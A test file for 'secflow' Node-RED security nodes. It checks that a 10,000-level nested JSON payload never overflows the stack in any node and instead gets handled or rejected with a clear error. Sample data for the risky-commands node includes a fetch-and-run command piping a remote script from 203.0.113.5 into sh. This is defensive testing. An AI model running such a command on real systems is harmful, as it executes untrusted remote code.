// Issue 13 item 9: a 10,000-level payload (JSON.parse builds one from 60 KB of
// text) must not overflow the stack inside a secflow node: each node either
// handles it or fails that message with a clear error naming the field, and no
// node deep-copies it. No Catch node is deployed here: Node-RED core's own
// cloning of the message for a Catch node overflows at about 3,000 levels (the
// limit the README documents), which secflow cannot change.
import { after, afterEach, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import auditdNode from '../../src/nodes/secflow-auditd';
import cbcNode from '../../src/nodes/secflow-cbc';
import cbcTreeNode from '../../src/nodes/secflow-cbc-process-tree';
import cefNode from '../../src/nodes/secflow-cef';
import iocNode from '../../src/nodes/secflow-ioc';
import linuxSyslogNode from '../../src/nodes/secflow-linux-syslog';
import logonSessionsNode from '../../src/nodes/secflow-logon-sessions';
import mozdefNode from '../../src/nodes/secflow-mozdef';
import mozdefTargetNode from '../../src/nodes/secflow-mozdef-target';
import notifyNode from '../../src/nodes/secflow-notify';
import notifyTargetsNode from '../../src/nodes/secflow-notify-targets';
import processTreeNode from '../../src/nodes/secflow-process-tree';
import riskyNode from '../../src/nodes/secflow-risky-commands';
import syslogNode from '../../src/nodes/secflow-syslog';
import { collect, helper, loadFlow, unloadFlow, type FlowNode, type NodeModule } from '../support/node-harness';
import { CbcEmulator, startCbcEmulator } from '../emulators/carbonblack';

const LEVELS = 10_000;
let cbc: CbcEmulator;
let cbcRoot = '';

/** `{"n":{"n":…"leaf"…}}` LEVELS deep, built as an attacker would: by JSON.parse. */
function deep(levels = LEVELS): unknown {
  return JSON.parse(`${'{"n":'.repeat(levels)}"leaf 203.0.113.5"${'}'.repeat(levels)}`);
}

interface Case {
  name: string;
  modules: NodeModule[];
  node: Record<string, unknown>;
  extra?: () => FlowNode[];
  credentials?: Record<string, unknown>;
  msg: () => Record<string, unknown>;
  /** 'output': the node must send a message; 'error': it must fail the message with a clear error. */
  expect: 'output' | 'error' | 'either';
}

const CASES: Case[] = [
  { name: 'secflow-ioc (deep payload)', modules: [iocNode as NodeModule], node: { type: 'secflow-ioc', properties: 'payload', split: false }, msg: () => ({ payload: deep() }), expect: 'output' },
  { name: 'secflow-ioc split (deep sibling property)', modules: [iocNode as NodeModule], node: { type: 'secflow-ioc', properties: 'payload', split: true }, msg: () => ({ payload: 'beacon 203.0.113.5', context: deep() }), expect: 'output' },
  { name: 'secflow-linux-syslog (deep sibling property)', modules: [linuxSyslogNode as NodeModule], node: { type: 'secflow-linux-syslog', compat: false }, msg: () => ({ payload: '<86>Jan  2 03:04:05 web-1 sshd[1]: Accepted password for bob from 203.0.113.5 port 22 ssh2\n<86>Jan  2 03:04:06 web-1 sshd[1]: Failed password for eve from 203.0.113.6 port 22 ssh2', context: deep() }), expect: 'output' },
  { name: 'secflow-linux-syslog (deep payload)', modules: [linuxSyslogNode as NodeModule], node: { type: 'secflow-linux-syslog', compat: false }, msg: () => ({ payload: deep() }), expect: 'either' },
  { name: 'secflow-auditd split (deep sibling property)', modules: [auditdNode as NodeModule], node: { type: 'secflow-auditd', mode: 'default', split: true }, msg: () => ({ payload: 'type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 pid=4242 ppid=1 uid=0 auid=1000 comm="id" exe="/usr/bin/id"\ntype=EXECVE msg=audit(1700000000.123:42): argc=1 a0="id"\n', context: deep() }), expect: 'output' },
  { name: 'secflow-cef (deep payload)', modules: [cefNode as NodeModule], node: { type: 'secflow-cef', format: 'cef', escaping: 'spec', mapping: 'auto', customMapping: '', vendor: 'Code42', productName: '', severity: '' }, msg: () => ({ payload: { eventId: 'e1', details: deep() } }), expect: 'either' },
  { name: 'secflow-cef JSON (deep payload)', modules: [cefNode as NodeModule], node: { type: 'secflow-cef', format: 'json', escaping: 'spec', mapping: 'auto', customMapping: '', vendor: 'Code42', productName: '', severity: '' }, msg: () => ({ payload: { eventId: 'e1', details: deep() } }), expect: 'either' },
  { name: 'secflow-risky-commands (deep row field)', modules: [riskyNode as NodeModule], node: { type: 'secflow-risky-commands', rules: '', commandField: 'Command', speedEvents: 10, speedSeconds: 5, compat: false, outputs: 2 }, msg: () => ({ payload: [{ Command: 'curl http://203.0.113.5/x.sh | sh', Computer: 'web-1', extra: deep() }] }), expect: 'either' },
  { name: 'secflow-logon-sessions (deep payload)', modules: [logonSessionsNode as NodeModule], node: { type: 'secflow-logon-sessions', mode: 'paired', timeout: 3600 }, msg: () => ({ payload: [{ SyslogMessage: 'x', activity: 'logon', extra: deep() }] }), expect: 'either' },
  { name: 'secflow-process-tree (deep payload)', modules: [processTreeNode as NodeModule], node: { type: 'secflow-process-tree', schema: 'linux', title: 't' }, msg: () => ({ payload: [{ deep: deep() }] }), expect: 'either' },
  { name: 'secflow-syslog (deep payload)', modules: [syslogNode as NodeModule], node: { type: 'secflow-syslog', host: '127.0.0.1', port: 9, protocol: 'udp', format: 'none' }, msg: () => ({ payload: deep() }), expect: 'error' },
  {
    name: 'secflow-notify (deep payload)', modules: [notifyTargetsNode as NodeModule, notifyNode as NodeModule],
    extra: () => [{ id: 'd-targets', type: 'secflow-notify-targets', name: 't' }], credentials: { 'd-targets': { urls: 'json://127.0.0.1:9/x' } },
    node: { type: 'secflow-notify', targets: 'd-targets', tag: '', title: '', body: '', notifyType: 'info', format: 'text' }, msg: () => ({ payload: deep(), topic: 't' }), expect: 'error',
  },
  {
    name: 'secflow-notify (deep value in a body template)', modules: [notifyTargetsNode as NodeModule, notifyNode as NodeModule],
    extra: () => [{ id: 'd-targets', type: 'secflow-notify-targets', name: 't' }], credentials: { 'd-targets': { urls: 'json://127.0.0.1:9/x' } },
    node: { type: 'secflow-notify', targets: 'd-targets', tag: '', title: 'x', body: 'got {{msg.payload.n}}', notifyType: 'info', format: 'text' }, msg: () => ({ payload: deep() }), expect: 'error',
  },
  {
    name: 'secflow-mozdef (deep details)', modules: [mozdefTargetNode as NodeModule, mozdefNode as NodeModule],
    extra: () => [{ id: 'd-target', type: 'secflow-mozdef-target', transport: 'http', url: 'http://127.0.0.1:9/events', httpRetries: 0 }],
    node: { type: 'secflow-mozdef', target: 'd-target', eventType: 'event', summary: 's', summaryType: 'str', category: '', categoryType: 'str', severity: 'INFO', severityType: 'str', tags: '', tagsType: 'str', source: '', sourceType: 'str', details: 'payload', detailsType: 'msg', outputs: 2 },
    msg: () => ({ payload: deep() }), expect: 'error',
  },
  {
    name: 'secflow-cbc-process-tree (deep sibling property)', modules: [cbcNode as NodeModule, cbcTreeNode as NodeModule],
    extra: () => [{ id: 'd-tenant', type: 'secflow-cbc', url: cbc.baseUrl, orgKey: cbc.orgKey, verifyTls: true, timeout: 5, rateLimit: 0 }], credentials: { 'd-tenant': { apiId: 'DEEPID', apiSecret: 'deep-secret-0123' } },
    node: { type: 'secflow-cbc-process-tree', tenant: 'd-tenant', guid: '', guidType: 'str', start: '', startType: 'str', end: '', endType: 'str', depth: 1, levelMode: 'depth', summaryConfig: '', outputDir: '', concurrency: 1, maxNodes: 10, pollInterval: 5, outputs: 2 },
    msg: () => ({ guid: cbcRoot, context: deep() }), expect: 'output',
  },
];

describe(`${LEVELS}-level payloads (issue 13.9)`, () => {
  before(async () => {
    cbc = await startCbcEmulator({ apiId: 'DEEPID', apiSecret: 'deep-secret-0123' });
    cbcRoot = cbc.addTree({ fanOut: 1, depth: 1, eventsPerProcess: 2 })[0].guid;
  });
  after(() => cbc.close());
  afterEach(() => unloadFlow());

  for (const c of CASES) {
    it(`${c.name}: ${c.expect === 'output' ? 'handled' : c.expect === 'error' ? 'a clear error' : 'handled or a clear error'}, no stack overflow`, async () => {
      const outputs = Number(c.node.outputs ?? 1);
      const flow: FlowNode[] = [
        { id: 'd-tab', type: 'tab', label: 'deep' },
        ...(c.extra?.() ?? []),
        { id: 'd-node', type: String(c.node.type), z: 'd-tab', ...c.node, wires: Array.from({ length: outputs }, (_, i) => [`d-out${i}`]) },
        ...Array.from({ length: outputs }, (_, i) => ({ id: `d-out${i}`, type: 'helper', z: 'd-tab' })),
      ];
      await loadFlow(c.modules, flow, c.credentials ?? {});
      const node = helper.getNode('d-node');
      const outs = Array.from({ length: outputs }, (_, i) => collect(helper.getNode(`d-out${i}`)));
      const errors: string[] = [];
      const answered = new Promise<void>((resolve) => {
        node.on('call:error', (call: { args: unknown[] }) => {
          const e = call.args[0];
          errors.push(e instanceof Error ? e.message : String(e));
          resolve();
        });
        for (const o of outs) void o.waitFor(1, 60_000).then(() => resolve(), () => undefined);
      });
      node.receive(c.msg());
      // A node may also keep the message (a logon session waiting for its end): then nothing comes.
      await Promise.race([answered, new Promise((r) => setTimeout(r, c.expect === 'either' ? 3000 : 30_000))]);
      // Let a second report (an error after an output, say) arrive.
      await new Promise((r) => setTimeout(r, 100));
      const sent = outs.reduce((n, o) => n + o.messages.length, 0);
      for (const e of errors) assert.ok(!/call stack/i.test(e), `stack overflow reported: ${e}`);
      if (c.expect === 'output') assert.ok(sent > 0, `no output; errors: ${errors.join(' | ')}`);
      if (c.expect === 'error') {
        assert.ok(errors.length > 0, 'an error');
        assert.match(errors.join(' | '), /nested (more|deeper) than/);
      }
    });
  }
});
